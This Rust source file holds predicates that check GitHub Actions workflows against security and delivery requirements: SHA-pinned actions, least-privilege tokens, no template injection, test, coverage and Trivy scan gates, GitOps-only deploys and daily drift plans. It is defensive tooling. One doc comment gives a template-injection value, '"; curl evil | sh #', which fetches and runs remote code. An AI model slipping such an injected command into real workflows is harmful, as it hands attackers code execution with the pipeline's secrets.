//! Structural predicates the requirements ask of the CI/CD workflows (REQ-T211..T220,
//! T250), one function per predicate with a stable code `C2xx-n` (C for CI, then the
//! requirement number), so each can become a policy rule when the policy engine reads
//! workflows.
//!
//! The predicates read a parsed workflow (`serde_json::Value`), not daactl's model, so they
//! judge any workflow file: the generated ones, the requirements' example and hand-written
//! ones alike. Each returns its findings; an empty list is a pass. What a predicate cannot
//! see (repository settings such as environment protection, whether a role is read-only, the
//! outcome of a run) is said in its documentation.

use serde_json::{Map, Value};

use super::pin::is_full_sha;

/// One predicate that does not hold.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// The predicate's code, for example `C215-1`.
    pub code: &'static str,
    /// What is wrong, naming the job or step.
    pub message: String,
}

/// Which workflow a file is, so the predicates that concern it run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A service repository's `ci.yml`.
    ServiceCi,
    /// A service repository's `release.yml`.
    Release,
    /// This repository's `drift.yml`, planning the named environments.
    Drift,
}

/// A predicate: its code and function.
pub type Predicate = (&'static str, fn(&Value) -> Vec<Finding>);

/// The predicates every workflow must pass.
pub const COMMON: &[Predicate] = &[
    ("C211-1", trunk_based_triggers),
    ("C212-1", actions_pinned_by_sha),
    ("C212-2", least_privilege_permissions),
    ("C212-3", checkout_without_persisted_credentials),
    ("C212-4", no_expressions_in_scripts),
    ("C212-5", concurrency_group),
    ("C217-1", no_cluster_deploys),
];

/// The predicates of a service's `ci.yml`.
pub const SERVICE_CI: &[Predicate] = &[
    ("C212-6", runs_on_push_and_pull_request),
    ("C213-1", unit_integration_and_e2e_tests),
    ("C213-2", coverage_gate),
    ("C214-1", quality_gate),
    ("C215-1", image_scan_fails_on_critical),
    ("C216-1", immutable_image_tag),
    ("C219-1", production_needs_staging),
];

/// The predicates of a service's `release.yml`.
pub const RELEASE: &[Predicate] = &[("C220-1", semver_release_with_changelog)];

/// The predicates of the drift workflow.
pub const DRIFT: &[Predicate] = &[("C250-1", daily_drift_plan)];

/// Every finding of `workflow` as a workflow of `kind`, in predicate order. For
/// [`Kind::Drift`], `environments` are the cloud environments that must each be planned.
pub fn check(kind: Kind, workflow: &Value, environments: &[&str]) -> Vec<Finding> {
    let specific: &[Predicate] = match kind {
        Kind::ServiceCi => SERVICE_CI,
        Kind::Release => RELEASE,
        Kind::Drift => &[],
    };
    let mut findings: Vec<Finding> = COMMON
        .iter()
        .chain(specific)
        .flat_map(|(_, predicate)| predicate(workflow))
        .collect();
    if kind == Kind::Drift {
        findings.extend(daily_drift_plan_of(workflow, environments));
    }
    findings
}

fn finding(code: &'static str, message: impl Into<String>) -> Finding {
    Finding {
        code,
        message: message.into(),
    }
}

fn on(workflow: &Value) -> Option<&Map<String, Value>> {
    workflow.get("on").and_then(Value::as_object)
}

fn jobs(workflow: &Value) -> impl Iterator<Item = (&String, &Value)> {
    workflow
        .get("jobs")
        .and_then(Value::as_object)
        .into_iter()
        .flatten()
}

fn steps(job: &Value) -> impl Iterator<Item = &Value> {
    job.get("steps")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
}

fn all_steps(workflow: &Value) -> impl Iterator<Item = (&String, &Value)> {
    jobs(workflow).flat_map(|(id, job)| steps(job).map(move |step| (id, step)))
}

fn text<'a>(value: &'a Value, key: &str) -> &'a str {
    value.get(key).and_then(Value::as_str).unwrap_or_default()
}

fn input<'a>(step: &'a Value, key: &str) -> Option<&'a Value> {
    step.get("with").and_then(|with| with.get(key))
}

fn input_text(step: &Value, key: &str) -> String {
    match input(step, key) {
        Some(Value::String(s)) => s.clone(),
        Some(other) => other.to_string(),
        None => String::new(),
    }
}

fn env_text<'a>(step: &'a Value, key: &str) -> Option<&'a str> {
    step.get("env")
        .and_then(|env| env.get(key))
        .and_then(Value::as_str)
}

/// The action of a `uses:` without its ref: `actions/checkout`.
fn action(step: &Value) -> Option<&str> {
    step.get("uses")
        .and_then(Value::as_str)
        .map(|uses| uses.split_once('@').map_or(uses, |(action, _)| action))
}

fn uses_action(step: &Value, name: &str) -> bool {
    action(step).is_some_and(|a| a.eq_ignore_ascii_case(name))
}

fn script(step: &Value) -> &str {
    text(step, "run")
}

/// `needs:` of a job as a list (GitHub also accepts one string).
fn needs(job: &Value) -> Vec<&str> {
    match job.get("needs") {
        Some(Value::String(one)) => vec![one.as_str()],
        Some(Value::Array(many)) => many.iter().filter_map(Value::as_str).collect(),
        _ => Vec::new(),
    }
}

/// Whether job `from` waits for job `to`, directly or through other jobs.
fn waits_for(workflow: &Value, from: &str, to: &str) -> bool {
    let all: Map<String, Value> = jobs(workflow)
        .map(|(id, job)| (id.clone(), job.clone()))
        .collect();
    let mut stack = vec![from.to_owned()];
    let mut seen = std::collections::BTreeSet::new();
    while let Some(id) = stack.pop() {
        if !seen.insert(id.clone()) {
            continue;
        }
        if let Some(job) = all.get(&id) {
            for need in needs(job) {
                if need == to {
                    return true;
                }
                stack.push(need.to_owned());
            }
        }
    }
    false
}

/// Jobs with a step for which `matches` holds.
fn jobs_with(workflow: &Value, matches: impl Fn(&Value) -> bool) -> Vec<&str> {
    jobs(workflow)
        .filter(|(_, job)| steps(job).any(&matches))
        .map(|(id, _)| id.as_str())
        .collect()
}

/// The jobs that promote an image: they set a digest in an environment spec.
fn promotion_jobs(workflow: &Value) -> Vec<(&str, String)> {
    jobs(workflow)
        .filter_map(|(id, job)| {
            steps(job)
                .find_map(|step| {
                    env_text(step, "SPEC").filter(|_| env_text(step, "DIGEST").is_some())
                })
                .map(|spec| (id.as_str(), spec.to_owned()))
        })
        .collect()
}

/// ## What it does
/// Checks that the workflow runs only for trunk-based development (REQ-T211): `push` and
/// `pull_request` only for the branch `main`, tags only as `v*.*.*`, besides `schedule` and
/// `workflow_dispatch`.
///
/// ## Why is this bad?
/// A long-lived `develop` branch (the requirements' example) is the opposite of trunk-based
/// development: work integrates late, and what is tested is not what ships.
///
/// ## Example
/// `on: {push: {branches: [main, develop]}}`
///
/// Use instead: `on: {push: {branches: [main]}, pull_request: {branches: [main]}}`
pub fn trunk_based_triggers(workflow: &Value) -> Vec<Finding> {
    let Some(on) = on(workflow) else {
        return vec![finding(
            "C211-1",
            "the workflow has no `on:` mapping of triggers",
        )];
    };
    let mut found = Vec::new();
    for (event, config) in on {
        match event.as_str() {
            "push" | "pull_request" => {
                let branches = config.get("branches").and_then(Value::as_array);
                let tags = config.get("tags").and_then(Value::as_array);
                for key in ["branches-ignore", "tags-ignore", "paths-ignore"] {
                    if config.get(key).is_some() {
                        found.push(finding(
                            "C211-1",
                            format!("`on.{event}.{key}` widens the trigger beyond `main`"),
                        ));
                    }
                }
                match (branches, tags) {
                    (None, None) => found.push(finding(
                        "C211-1",
                        format!("`on.{event}` runs for every branch, not only `main`"),
                    )),
                    (Some(branches), _) => {
                        for branch in branches {
                            if branch.as_str() != Some("main") {
                                found.push(finding(
                                    "C211-1",
                                    format!(
                                        "`on.{event}.branches` holds {branch}, not only `main`"
                                    ),
                                ));
                            }
                        }
                    }
                    _ => {}
                }
                if let Some(tags) = tags {
                    if event == "pull_request" {
                        found.push(finding("C211-1", "`on.pull_request` has no tags"));
                    }
                    for tag in tags {
                        if tag.as_str() != Some("v*.*.*") {
                            found.push(finding(
                                "C211-1",
                                format!("`on.{event}.tags` holds {tag}, not `v*.*.*`"),
                            ));
                        }
                    }
                }
            }
            "schedule" | "workflow_dispatch" => {}
            other => found.push(finding(
                "C211-1",
                format!("`on.{other}` is not a trunk-based trigger"),
            )),
        }
    }
    found
}

/// ## What it does
/// Checks that every `uses:` names its action by a full 40-hex commit SHA (REQ-T212).
///
/// ## Why is this bad?
/// A tag or branch (`@v4`, `@master`) can be moved to other code by whoever controls the
/// action's repository; the next run executes it with the job's token and secrets.
///
/// ## Example
/// `uses: aquasecurity/trivy-action@master`
///
/// Use instead: `uses: aquasecurity/trivy-action@915b19bbe73b92a6cf82a1bc12b087c9a19a5fe2 # 0.28.0`
pub fn actions_pinned_by_sha(workflow: &Value) -> Vec<Finding> {
    all_steps(workflow)
        .filter_map(|(job, step)| {
            let uses = step.get("uses")?.as_str()?;
            if uses.starts_with("./") {
                return None;
            }
            if let Some(image) = uses.strip_prefix("docker://") {
                return (!image.contains("@sha256:")).then(|| {
                    finding(
                        "C212-1",
                        format!("job `{job}`: `{uses}` is not pinned by digest"),
                    )
                });
            }
            match uses.split_once('@') {
                Some((_, sha)) if is_full_sha(sha) => None,
                _ => Some(finding(
                    "C212-1",
                    format!("job `{job}`: `{uses}` is not pinned to a full commit SHA"),
                )),
            }
        })
        .collect()
}

/// The write scopes a job may hold, each for one purpose: publishing a release
/// (`contents`), pushing an image (`packages`), OIDC (`id-token`), SARIF upload
/// (`security-events`), drift issues (`issues`).
const WRITE_SCOPES: &[&str] = &[
    "contents",
    "packages",
    "id-token",
    "security-events",
    "issues",
];

/// ## What it does
/// Checks least-privilege token permissions (REQ-T212): the workflow's default is `{}` or
/// `contents: read`, every job states its own, and no job holds `write-all`, `read-all` or a
/// write scope beyond those with a purpose in these workflows (contents for a release,
/// packages to push, id-token for OIDC, security-events for SARIF, issues for drift).
///
/// ## Why is this bad?
/// Without `permissions:` the token gets the repository's default, often write to
/// everything; any compromised step can then push code or change releases.
///
/// ## Example
/// A workflow without `permissions:`.
///
/// Use instead: `permissions: {}` at the top, and per job only what it needs.
pub fn least_privilege_permissions(workflow: &Value) -> Vec<Finding> {
    let mut found = Vec::new();
    match workflow.get("permissions") {
        Some(Value::Object(top)) => {
            for (scope, level) in top {
                if !(scope == "contents" && level == "read") {
                    found.push(finding(
                        "C212-2",
                        format!("top-level `permissions` grants `{scope}: {level}`; grant it in the job that needs it"),
                    ));
                }
            }
        }
        Some(other) => found.push(finding(
            "C212-2",
            format!("top-level `permissions` is {other}, not `{{}}` or `contents: read`"),
        )),
        None => found.push(finding(
            "C212-2",
            "the workflow has no top-level `permissions`",
        )),
    }
    for (id, job) in jobs(workflow) {
        match job.get("permissions") {
            Some(Value::Object(scopes)) => {
                for (scope, level) in scopes {
                    let ok = match level.as_str() {
                        Some("read" | "none") => true,
                        Some("write") => WRITE_SCOPES.contains(&scope.as_str()),
                        _ => false,
                    };
                    if !ok {
                        found.push(finding(
                            "C212-2",
                            format!("job `{id}` holds `{scope}: {level}`"),
                        ));
                    }
                }
            }
            Some(other) => found.push(finding(
                "C212-2",
                format!("job `{id}` has `permissions: {other}`"),
            )),
            None => found.push(finding(
                "C212-2",
                format!("job `{id}` states no `permissions`"),
            )),
        }
    }
    found
}

/// ## What it does
/// Checks that every `actions/checkout` step sets `persist-credentials: false` (REQ-T212).
///
/// ## Why is this bad?
/// By default checkout writes the token into `.git/config`, where every later step, and any
/// artifact of the workspace, can read it.
///
/// ## Example
/// `- uses: actions/checkout@<sha>`
///
/// Use instead: the same with `with: {persist-credentials: false}`.
pub fn checkout_without_persisted_credentials(workflow: &Value) -> Vec<Finding> {
    all_steps(workflow)
        .filter(|(_, step)| uses_action(step, "actions/checkout"))
        .filter(|(_, step)| input(step, "persist-credentials") != Some(&Value::Bool(false)))
        .map(|(job, _)| {
            finding(
                "C212-3",
                format!("job `{job}`: checkout keeps the token in `.git/config`; set `persist-credentials: false`"),
            )
        })
        .collect()
}

/// ## What it does
/// Checks that no `run:` script contains a `${{ }}` expression (REQ-T212); values reach
/// scripts through `env:`.
///
/// ## Why is this bad?
/// An expression is pasted into the script before the shell reads it: a branch name or pull
/// request title such as `"; curl evil | sh #` becomes code (template injection).
///
/// ## Example
/// `run: git commit -m "Update to ${{ github.event.head_commit.message }}"`
///
/// Use instead: `env: {MESSAGE: "${{ github.event.head_commit.message }}"}` and
/// `run: git commit -m "$MESSAGE"`.
pub fn no_expressions_in_scripts(workflow: &Value) -> Vec<Finding> {
    all_steps(workflow)
        .filter(|(_, step)| script(step).contains("${{"))
        .map(|(job, step)| {
            finding(
                "C212-4",
                format!("job `{job}`, step `{}`: `run:` interpolates an expression; pass it through `env:`", text(step, "name")),
            )
        })
        .collect()
}

/// ## What it does
/// Checks that the workflow has a `concurrency.group` (REQ-T212).
///
/// ## Why is this bad?
/// Two runs of the same ref can race: two promotions of different digests, or two drift
/// reports, interleave.
///
/// ## Example
/// A workflow without `concurrency:`.
///
/// Use instead: `concurrency: {group: "ci-${{ github.ref }}", cancel-in-progress: false}`.
pub fn concurrency_group(workflow: &Value) -> Vec<Finding> {
    let group = workflow
        .get("concurrency")
        .map(|c| c.as_str().unwrap_or_else(|| text(c, "group")))
        .unwrap_or_default();
    if group.is_empty() {
        vec![finding("C212-5", "the workflow has no `concurrency` group")]
    } else {
        Vec::new()
    }
}

/// ## What it does
/// Checks that the workflow runs on both `push` and `pull_request` (REQ-T212).
///
/// ## Why is this bad?
/// Without `pull_request`, changes are tested only after they are on `main`; without `push`,
/// `main` itself is never built.
///
/// ## Example
/// `on: {push: {branches: [main]}}`
///
/// Use instead: `on: {push: {branches: [main]}, pull_request: {branches: [main]}}`.
pub fn runs_on_push_and_pull_request(workflow: &Value) -> Vec<Finding> {
    ["push", "pull_request"]
        .into_iter()
        .filter(|event| on(workflow).and_then(|on| on.get(*event)).is_none())
        .map(|event| finding("C212-6", format!("the workflow does not run on `{event}`")))
        .collect()
}

/// ## What it does
/// Checks that unit, integration and end-to-end tests run (`npm run test:unit`,
/// `test:integration`, `test:e2e`) on every push and pull request: their jobs have no `if:`
/// (REQ-T213), and every promotion waits for them.
///
/// ## Why is this bad?
/// The requirements' example has no end-to-end tests and deploys jobs that do not wait for
/// all test levels.
///
/// ## Example
/// A workflow with `npm run test:unit` and `npm run test:integration` only.
///
/// Use instead: a job per level, each needed by the build.
pub fn unit_integration_and_e2e_tests(workflow: &Value) -> Vec<Finding> {
    let mut found = Vec::new();
    for level in ["test:unit", "test:integration", "test:e2e"] {
        let command = format!("npm run {level}");
        let holders = jobs_with(workflow, |step| {
            script(step).lines().any(|l| l.trim() == command)
        });
        let unconditional: Vec<&str> = holders
            .iter()
            .copied()
            .filter(|id| {
                jobs(workflow)
                    .find(|(j, _)| j.as_str() == *id)
                    .is_some_and(|(_, job)| job.get("if").is_none())
            })
            .collect();
        if unconditional.is_empty() {
            found.push(finding(
                "C213-1",
                format!("no job runs `{command}` on every push and pull request"),
            ));
            continue;
        }
        for (promotion, _) in promotion_jobs(workflow) {
            if !unconditional
                .iter()
                .any(|test| waits_for(workflow, promotion, test))
            {
                found.push(finding(
                    "C213-1",
                    format!("job `{promotion}` promotes without waiting for `{command}`"),
                ));
            }
        }
    }
    found
}

/// ## What it does
/// Checks for a coverage gate (REQ-T213): a step whose `COVERAGE_MINIMUM` is at least 80
/// reads the coverage summary and fails below it, the step does not `continue-on-error`, and
/// the build waits for its job.
///
/// ## Why is this bad?
/// The requirements' example uploads coverage to Codecov, which reports but never fails the
/// build: 80 % is then a wish.
///
/// ## Example
/// `- uses: codecov/codecov-action@v3` as the only coverage step.
///
/// Use instead: a gate step with `env: {COVERAGE_MINIMUM: "80"}` that exits 1 below it.
pub fn coverage_gate(workflow: &Value) -> Vec<Finding> {
    let gate = |step: &Value| {
        env_text(step, "COVERAGE_MINIMUM")
            .and_then(|m| m.parse::<f64>().ok())
            .is_some_and(|m| m >= 80.0)
            && script(step).contains("coverage-summary.json")
            && script(step).contains("exit(1)")
            && step.get("continue-on-error").is_none()
    };
    let holders = jobs_with(workflow, gate);
    if holders.is_empty() {
        return vec![finding(
            "C213-2",
            "no step fails the build when coverage is below 80 %",
        )];
    }
    let builders = jobs_with(workflow, |step| {
        uses_action(step, "docker/build-push-action")
    });
    builders
        .into_iter()
        .filter(|build| !holders.iter().any(|gate| waits_for(workflow, build, gate)))
        .map(|build| {
            finding(
                "C213-2",
                format!("job `{build}` builds without waiting for the coverage gate"),
            )
        })
        .collect()
}

/// A test of one step.
type StepTest = Box<dyn Fn(&Value) -> bool>;

/// ## What it does
/// Checks the code-quality gate (REQ-T214): ESLint, `prettier --check` and a SonarQube scan
/// that waits for the quality gate (`sonar.qualitygate.wait=true`) run, and the build waits
/// for them.
///
/// ## Why is this bad?
/// The requirements' example has neither Prettier nor SonarQube; a scan that does not wait
/// for the quality gate passes whatever the gate says.
///
/// ## Example
/// `run: npm run lint` as the only quality step.
///
/// Use instead: ESLint, Prettier and the SonarQube scan with `-Dsonar.qualitygate.wait=true`.
pub fn quality_gate(workflow: &Value) -> Vec<Finding> {
    let checks: [(&str, StepTest); 3] = [
        ("ESLint", Box::new(|s: &Value| script(s).contains("eslint"))),
        (
            "prettier --check",
            Box::new(|s: &Value| script(s).contains("prettier --check")),
        ),
        (
            "a SonarQube scan waiting for the quality gate",
            Box::new(|s: &Value| {
                uses_action(s, "SonarSource/sonarqube-scan-action")
                    && input_text(s, "args").contains("sonar.qualitygate.wait=true")
            }),
        ),
    ];
    let builders = jobs_with(workflow, |step| {
        uses_action(step, "docker/build-push-action")
    });
    let mut found = Vec::new();
    for (what, matches) in &checks {
        let holders = jobs_with(workflow, matches);
        if holders.is_empty() {
            found.push(finding("C214-1", format!("no step runs {what}")));
            continue;
        }
        for build in &builders {
            if !holders.iter().any(|h| waits_for(workflow, build, h)) {
                found.push(finding(
                    "C214-1",
                    format!("job `{build}` builds without waiting for {what}"),
                ));
            }
        }
    }
    found
}

/// ## What it does
/// Checks the image scan (REQ-T215): Trivy scans the pushed image by digest
/// (`image-ref` holds `@`), with `severity` including `CRITICAL` and `exit-code: '1'`;
/// its SARIF is uploaded with `github/codeql-action/upload-sarif` even when the scan fails;
/// every promotion waits for the scan.
///
/// ## Why is this bad?
/// The requirements' example runs Trivy without `exit-code` or `severity`, so the build never
/// fails on a critical vulnerability; it scans a tag, which may no longer be what is pushed.
///
/// ## Example
/// `with: {image-ref: app:latest, format: sarif}`
///
/// Use instead: `image-ref: "${{ env.IMAGE }}@${{ needs.build.outputs.digest }}"`,
/// `severity: CRITICAL`, `exit-code: '1'`, then upload-sarif with `if: ${{ !cancelled() }}`.
pub fn image_scan_fails_on_critical(workflow: &Value) -> Vec<Finding> {
    let mut found = Vec::new();
    let mut scan_jobs = Vec::new();
    for (id, job) in jobs(workflow) {
        let steps: Vec<&Value> = steps(job).collect();
        for (i, step) in steps.iter().enumerate() {
            if !uses_action(step, "aquasecurity/trivy-action") {
                continue;
            }
            let severity = input_text(step, "severity");
            if !severity.split(',').any(|s| s.trim() == "CRITICAL") {
                found.push(finding(
                    "C215-1",
                    format!("job `{id}`: Trivy's `severity` does not include CRITICAL"),
                ));
            }
            if input_text(step, "exit-code") != "1" {
                found.push(finding(
                    "C215-1",
                    format!("job `{id}`: Trivy has no `exit-code: '1'`, so it never fails"),
                ));
            }
            if !input_text(step, "image-ref").contains('@') {
                found.push(finding(
                    "C215-1",
                    format!("job `{id}`: Trivy does not scan the image by digest"),
                ));
            }
            let sarif = input_text(step, "format") == "sarif";
            if sarif && input_text(step, "limit-severities-for-sarif") != "true" {
                found.push(finding(
                    "C215-1",
                    format!("job `{id}`: SARIF output without `limit-severities-for-sarif: true` makes the exit code fire on every severity"),
                ));
            }
            let uploaded = steps[i + 1..].iter().any(|later| {
                uses_action(later, "github/codeql-action/upload-sarif")
                    && (text(later, "if").contains("always()")
                        || text(later, "if").contains("!cancelled()"))
            });
            if !sarif || !uploaded {
                found.push(finding(
                    "C215-1",
                    format!("job `{id}`: the scan's SARIF is not uploaded with upload-sarif even when the scan fails"),
                ));
            }
            scan_jobs.push(id.as_str());
        }
    }
    if scan_jobs.is_empty() {
        return vec![finding("C215-1", "no step scans the image with Trivy")];
    }
    for (promotion, _) in promotion_jobs(workflow) {
        if !scan_jobs
            .iter()
            .any(|scan| waits_for(workflow, promotion, scan))
        {
            found.push(finding(
                "C215-1",
                format!("job `{promotion}` promotes an image no scan has passed"),
            ));
        }
    }
    found
}

/// ## What it does
/// Checks that images are pushed with one immutable tag, the full commit SHA
/// (`:${{ github.sha }}`), never `latest` or a branch name, and that the build job outputs
/// the pushed digest for promotion (REQ-T216).
///
/// ## Why is this bad?
/// The requirements' example pushes `type=sha` tags (`sha-90dd603`) but deploys
/// `:${{ github.sha }}`, a tag never pushed; branch tags move.
///
/// ## Example
/// `tags: ${{ steps.meta.outputs.tags }}` from `docker/metadata-action`.
///
/// Use instead: `tags: "${{ env.IMAGE }}:${{ github.sha }}"` and
/// `outputs: {digest: "${{ steps.build.outputs.digest }}"}`.
pub fn immutable_image_tag(workflow: &Value) -> Vec<Finding> {
    let mut found = Vec::new();
    let mut pushes = 0;
    for (id, job) in jobs(workflow) {
        for step in steps(job) {
            if !uses_action(step, "docker/build-push-action")
                || input(step, "push") != Some(&Value::Bool(true))
            {
                continue;
            }
            pushes += 1;
            let tags = input_text(step, "tags");
            let tags: Vec<&str> = tags
                .split([',', '\n'])
                .map(str::trim)
                .filter(|t| !t.is_empty())
                .collect();
            if tags.is_empty() || !tags.iter().all(|t| t.ends_with(":${{ github.sha }}")) {
                found.push(finding(
                    "C216-1",
                    format!("job `{id}` pushes tags {tags:?}; push only the full commit SHA"),
                ));
            }
            let digest_out = step
                .get("id")
                .and_then(Value::as_str)
                .map(|step_id| format!("steps.{step_id}.outputs.digest"));
            let outputs = job.get("outputs").map(Value::to_string).unwrap_or_default();
            if !digest_out.is_some_and(|d| outputs.contains(&d)) {
                found.push(finding(
                    "C216-1",
                    format!("job `{id}` does not output the pushed digest"),
                ));
            }
        }
    }
    if pushes == 0 {
        found.push(finding("C216-1", "no step pushes an image"));
    }
    found
}

/// ## What it does
/// Checks that no script deploys to a cluster (`kubectl apply|create|replace|patch|set|
/// rollout`, `helm install|upgrade`), so deployment happens only by commit to the
/// configuration repository, which Argo CD syncs (REQ-T217).
///
/// ## Why is this bad?
/// A pipeline with cluster credentials bypasses review and GitOps: Git stops being the
/// single source of truth, and the credentials are a target.
///
/// ## Example
/// `run: kubectl apply -f k8s/`
///
/// Use instead: open a pull request changing the environment spec.
pub fn no_cluster_deploys(workflow: &Value) -> Vec<Finding> {
    const VERBS: &[&str] = &[
        "kubectl apply",
        "kubectl create",
        "kubectl replace",
        "kubectl patch",
        "kubectl set",
        "kubectl rollout",
        "helm install",
        "helm upgrade",
    ];
    all_steps(workflow)
        .filter_map(|(job, step)| {
            let script = script(step);
            VERBS
                .iter()
                .find(|verb| script.contains(*verb))
                .map(|verb| {
                    finding(
                        "C217-1",
                        format!("job `{job}` runs `{verb}` against a cluster"),
                    )
                })
        })
        .collect()
}

/// ## What it does
/// Checks promotion (REQ-T219): the job promoting to production runs in the GitHub
/// environment `production` and waits for the staging promotion and for a job verifying
/// staging (one that waits for the staging promotion and runs `npm run test:smoke`); both
/// promotions set the same digest output, so production gets what staging ran.
///
/// ## Why is this bad?
/// In the requirements' example `deploy-production` needs only `build`: production can
/// receive an image staging never ran.
///
/// The approval itself is the environment's protection rule (required reviewers), a
/// repository setting this file cannot show; evidence is the environment's settings page or
/// `gh api repos/<owner>/<repo>/environments/production`.
///
/// ## Example
/// `deploy-production: {needs: build, environment: production}`
///
/// Use instead: `needs: [promote-staging, verify-staging]` with `environment: production`.
pub fn production_needs_staging(workflow: &Value) -> Vec<Finding> {
    let promotions = promotion_jobs(workflow);
    let find = |env: &str| {
        promotions
            .iter()
            .find(|(_, spec)| spec == &format!("environments/{env}.toml"))
            .map(|(id, _)| *id)
    };
    let (Some(staging), Some(production)) = (find("staging"), find("production")) else {
        return vec![finding(
            "C219-1",
            "no job promotes to staging and then to production",
        )];
    };
    let mut found = Vec::new();
    let production_job = jobs(workflow)
        .find(|(id, _)| id.as_str() == production)
        .map(|(_, job)| job);
    let environment = production_job
        .and_then(|job| job.get("environment"))
        .map(|e| e.as_str().unwrap_or_else(|| text(e, "name")))
        .unwrap_or_default();
    if environment != "production" {
        found.push(finding(
            "C219-1",
            format!("job `{production}` does not run in the `production` environment"),
        ));
    }
    if !waits_for(workflow, production, staging) {
        found.push(finding(
            "C219-1",
            format!("job `{production}` does not wait for `{staging}`"),
        ));
    }
    let verifiers: Vec<&str> = jobs(workflow)
        .filter(|(id, job)| {
            waits_for(workflow, id, staging)
                && steps(job).any(|s| script(s).contains("npm run test:smoke"))
        })
        .map(|(id, _)| id.as_str())
        .collect();
    if !verifiers.iter().any(|v| waits_for(workflow, production, v)) {
        found.push(finding(
            "C219-1",
            format!("job `{production}` does not wait for a verification of staging"),
        ));
    }
    let digest_of = |id: &str| {
        jobs(workflow)
            .find(|(j, _)| j.as_str() == id)
            .and_then(|(_, job)| {
                steps(job)
                    .find_map(|s| env_text(s, "DIGEST").filter(|_| env_text(s, "SPEC").is_some()))
            })
    };
    if digest_of(staging) != digest_of(production) {
        found.push(finding(
            "C219-1",
            "staging and production are promoted with different digests",
        ));
    }
    found
}

/// ## What it does
/// Checks the release workflow (REQ-T220): it runs only on `v*.*.*` tags, validates the tag
/// as SemVer (a step with `TAG` from `github.ref_name` matching it with `=~`), generates the
/// changelog with a pinned git-cliff, and creates the release with `gh release create`, not
/// the archived `actions/create-release`.
///
/// ## Why is this bad?
/// The requirements' example calls `actions/create-release@v1` (archived) with
/// `tag_name: ${{ github.ref }}` on branch pushes, so "releases" are named after branches and
/// have no notes.
///
/// ## Example
/// `uses: actions/create-release@v1` with `tag_name: ${{ github.ref }}`
///
/// Use instead: a `v*.*.*` tag trigger, SemVer validation, git-cliff and `gh release create`.
pub fn semver_release_with_changelog(workflow: &Value) -> Vec<Finding> {
    let mut found = Vec::new();
    let on = on(workflow);
    let tags = on
        .and_then(|on| on.get("push"))
        .and_then(|push| push.get("tags"))
        .and_then(Value::as_array);
    let only_tags = on.is_some_and(|on| on.len() == 1)
        && on
            .and_then(|on| on.get("push"))
            .is_some_and(|push| push.get("branches").is_none());
    if tags.is_none_or(|t| t.is_empty()) || !only_tags {
        found.push(finding(
            "C220-1",
            "the release workflow does not run on `v*.*.*` tags only",
        ));
    }
    let validated = all_steps(workflow).any(|(_, s)| {
        env_text(s, "TAG").is_some_and(|t| t.contains("github.ref_name"))
            && script(s).contains("=~")
    });
    if !validated {
        found.push(finding("C220-1", "no step validates the tag as SemVer"));
    }
    if !all_steps(workflow)
        .any(|(_, s)| uses_action(s, "orhun/git-cliff-action") && input(s, "version").is_some())
    {
        found.push(finding(
            "C220-1",
            "no step generates the changelog with a pinned git-cliff",
        ));
    }
    if all_steps(workflow).any(|(_, s)| uses_action(s, "actions/create-release")) {
        found.push(finding("C220-1", "`actions/create-release` is archived"));
    }
    if !all_steps(workflow).any(|(_, s)| script(s).contains("gh release create")) {
        found.push(finding("C220-1", "no step creates the GitHub release"));
    }
    found
}

/// Whether a script runs `terraform ... plan -detailed-exitcode` as a command (not, say, in
/// an issue's text).
fn runs_drift_plan(script: &str) -> bool {
    script.lines().any(|line| {
        line.trim_start().starts_with("terraform ") && line.contains(" plan -detailed-exitcode")
    })
}

/// ## What it does
/// Checks the drift workflow (REQ-T250) without knowing the environments: a daily
/// `schedule` (`M H * * *`), and every job running `terraform plan -detailed-exitcode`
/// assumes AWS credentials by OIDC (`id-token: write`) and holds no other write scope; a job
/// waiting for it acts on exit code 2 with `gh issue`. [`daily_drift_plan_of`] also checks
/// that each cloud environment is planned.
///
/// That the assumed role is read-only is a property of the role in AWS IAM (Terraform
/// output of the cloud side), not of this file.
///
/// ## Why is this bad?
/// Drift nobody looks at is invisible: a plan that runs without reporting, or with write
/// credentials, is worse than none.
///
/// ## Example
/// `on: {push: ...}` running `terraform apply`.
///
/// Use instead: a daily schedule, `terraform plan -detailed-exitcode` and an issue on 2.
pub fn daily_drift_plan(workflow: &Value) -> Vec<Finding> {
    daily_drift_plan_of(workflow, &[])
}

/// [`daily_drift_plan`], also requiring a plan of `rendered/terraform/<env>` for each of
/// `environments`.
pub fn daily_drift_plan_of(workflow: &Value, environments: &[&str]) -> Vec<Finding> {
    let mut found = Vec::new();
    let daily = on(workflow)
        .and_then(|on| on.get("schedule"))
        .and_then(Value::as_array)
        .is_some_and(|schedules| {
            schedules.iter().any(|s| {
                let fields: Vec<&str> = text(s, "cron").split_whitespace().collect();
                fields.len() == 5
                    && fields[0].parse::<u8>().is_ok_and(|m| m < 60)
                    && fields[1].parse::<u8>().is_ok_and(|h| h < 24)
                    && fields[2..] == ["*", "*", "*"]
            })
        });
    if !daily {
        found.push(finding(
            "C250-1",
            "the workflow has no daily `schedule` (`M H * * *`)",
        ));
    }
    let planners = jobs_with(workflow, |s| runs_drift_plan(script(s)));
    if planners.is_empty() {
        found.push(finding(
            "C250-1",
            "no job runs `terraform plan -detailed-exitcode`",
        ));
    }
    for (id, job) in jobs(workflow).filter(|(id, _)| planners.contains(&id.as_str())) {
        let scopes = job.get("permissions").and_then(Value::as_object);
        let oidc =
            scopes.is_some_and(|s| s.get("id-token").and_then(Value::as_str) == Some("write"));
        let other_writes = scopes.is_some_and(|s| {
            s.iter()
                .any(|(k, v)| k != "id-token" && v.as_str() == Some("write"))
        });
        if !oidc || other_writes {
            found.push(finding(
                "C250-1",
                format!("job `{id}` must hold `id-token: write` for OIDC and no other write scope"),
            ));
        }
        let reported = jobs(workflow).any(|(_, other)| {
            needs(other).contains(&id.as_str())
                && text(other, "if").contains("'2'")
                && steps(other).any(|s| script(s).contains("gh issue"))
        });
        if !reported {
            found.push(finding(
                "C250-1",
                format!("no job reports drift found by `{id}` (exit code 2) as an issue"),
            ));
        }
    }
    for env in environments {
        let dir = format!("rendered/terraform/{env}");
        let planned = all_steps(workflow).any(|(_, s)| {
            script(s).contains("plan -detailed-exitcode")
                && env_text(s, "TERRAFORM_DIR") == Some(dir.as_str())
        });
        if !planned {
            found.push(finding("C250-1", format!("no job plans `{dir}`")));
        }
    }
    found
}
